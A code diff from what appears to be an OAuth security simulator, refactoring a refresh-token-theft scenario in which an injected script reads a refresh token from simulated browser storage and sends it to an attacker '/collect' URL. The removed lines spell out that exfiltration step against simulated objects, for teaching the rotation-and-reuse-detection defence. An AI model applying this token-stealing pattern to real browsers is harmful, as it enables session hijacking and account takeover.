@@ -2,14 +2,11 @@
 //! used before the client's; rotation with reuse detection is the defence.
 
 use super::attack::Outcome;
-use super::moves::{
-    attacker_refreshes, attacker_url, attacker_uses_tokens, stopped_here, victim_completes_sign_in,
-};
-use crate::http::Url;
+use super::moves::{attacker_refreshes, attacker_uses_tokens, script_steals_tokens};
 use crate::sim::browser::Browser;
 use crate::sim::client::Client;
 use crate::sim::flows::steps::call_api_again_later;
-use crate::sim::network::{Network, from_browser};
+use crate::sim::network::Network;
 use crate::sim::scenario::Scenario;
 use crate::sim::trace::RfcRef;
 
@@ -22,36 +19,19 @@ pub(super) fn refresh_token_theft(
     browser: &mut Browser,
     client: &mut Client,
 ) -> Outcome {
-    if let Err(outcome) = victim_completes_sign_in(scenario, network, browser, client) {
-        return outcome;
-    }
-    let origin = scenario.client.origin();
     // This app keeps its refresh token in the browser's storage.
-    if let Some(refresh) = client.tokens.as_ref().and_then(|t| t.refresh_token.clone()) {
-        browser.store(&origin, "refresh_token", refresh.secret());
-    }
-    let Some(stolen) = browser.stored(&origin, "refresh_token").map(str::to_owned) else {
-        return stopped_here(network);
-    };
-    let exfiltrate = Url {
-        query: Some(crate::form::encode_form(&[(
-            "refresh_token",
-            stolen.as_str(),
-        )])),
-        ..attacker_url("/collect")
-    };
-    let request = browser.subresource_request(exfiltrate);
-    from_browser(
+    let stolen = match script_steals_tokens(
+        scenario,
         network,
         browser,
-        request,
+        client,
         false,
         "A script injected into the app (cross-site scripting, a compromised dependency) reads \
          the refresh token from the browser's storage and sends it to the attacker.",
         &STEAL_REFRESH,
-    );
-    let Some(stolen) = network.attacker.captured("refresh_token") else {
-        return stopped_here(network);
+    ) {
+        Ok(stolen) => stolen,
+        Err(outcome) => return outcome,
     };
     let client_id = scenario.client.client_id.clone();
     let response = attacker_refreshes(
